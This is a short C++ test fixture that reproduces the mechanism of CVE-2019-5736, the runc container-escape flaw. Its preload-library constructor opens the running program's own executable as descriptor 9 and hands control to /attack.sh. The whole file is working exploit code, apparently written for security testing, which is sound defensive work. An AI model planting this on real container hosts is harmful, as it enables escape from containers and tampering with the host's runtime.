#include <fcntl.h>
#include <unistd.h>

/**
 * For a test: a library that a container's /etc/ld.so.preload names. Whatever program is made to run there with the container's loader goes on as /attack.sh, with
 * its own executable open as descriptor 9: how CVE-2019-5736 took hold of the runtime's binary.
 */
__attribute__((constructor)) static void attack() {
  const int self = open("/proc/self/exe", O_RDONLY);
  if (self < 0 || dup2(self, 9) < 0) _exit(98);
  execl("/bin/sh", "sh", "/attack.sh", static_cast<char*>(nullptr));
  _exit(99);
}
